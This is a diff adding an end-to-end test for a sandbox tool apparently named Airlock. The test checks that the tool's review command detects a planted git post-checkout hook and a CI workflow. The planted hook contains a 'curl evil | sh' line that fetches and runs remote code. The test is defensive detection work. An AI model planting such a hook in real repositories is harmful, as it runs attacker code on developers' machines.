@@ -412,6 +412,37 @@ TEST_F(SandboxE2ETest, DirectModeSharesPathsAndEnforcesReadOnlyOnTheHost) {
   EXPECT_TRUE(testing::ProcessesNamed(dir_.path() + "/run/vms/").empty());
 }
 
+TEST_F(SandboxE2ETest, ReviewCatchesPlantedHookAndWorkflow) {
+  std::string repo = dir_.path() + "/repo";
+  ASSERT_EQ(mkdir(repo.c_str(), 0755), 0);
+  ASSERT_EQ(RunCommand({"git", "init", "-q", repo}).exit_code, 0);
+  std::ofstream(repo + "/main.c") << "int main(){}\n";
+  ASSERT_EQ(RunCommand({"chown", "-R", "1000:1000", repo}).exit_code, 0);
+  ASSERT_EQ(Airlock({"create", "--name", "rev", "-m", "1g", "shell", repo}).exit_code, 0);
+  auto clean = Airlock({"review", "rev"});
+  EXPECT_EQ(clean.exit_code, 0) << clean.err;
+  EXPECT_EQ(clean.out, "no risky changes\n");
+
+  auto plant = Airlock({"exec", "rev", "--", "sh", "-c",
+                        "echo 'int main(){return 1;}' > main.c; "
+                        "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/post-checkout; "
+                        "chmod +x .git/hooks/post-checkout; mkdir -p .github/workflows; "
+                        "echo 'on: push' > .github/workflows/exfil.yml"});
+  ASSERT_EQ(plant.exit_code, 0) << plant.err;
+  auto found = Airlock({"review", "rev", "--json"});
+  EXPECT_EQ(found.exit_code, 1);
+  auto findings = nlohmann::json::parse(found.out);
+  std::map<std::string, std::string> kinds;
+  for (const auto& f : findings) kinds[f["kind"]] = f["path"];
+  EXPECT_EQ(kinds["git-hook"], repo + "/.git/hooks/post-checkout");
+  EXPECT_EQ(kinds["ci-workflow"], repo + "/.github/workflows/exfil.yml");
+  EXPECT_EQ(kinds["new-executable"], repo + "/.git/hooks/post-checkout");
+  EXPECT_EQ(kinds.count("build-script"), 0u) << "an edit of main.c is not a finding";
+  auto table = Airlock({"review", "rev"});
+  EXPECT_NE(table.out.find("git-hook"), std::string::npos) << table.out;
+  EXPECT_EQ(Airlock({"review", "no-such-box"}).exit_code, 2);
+}
+
 TEST_F(SandboxE2ETest, FiveSandboxesAtOnce) {
   ASSERT_EQ(Airlock({"daemon", "start"}).exit_code, 0);
   std::vector<std::thread> threads;
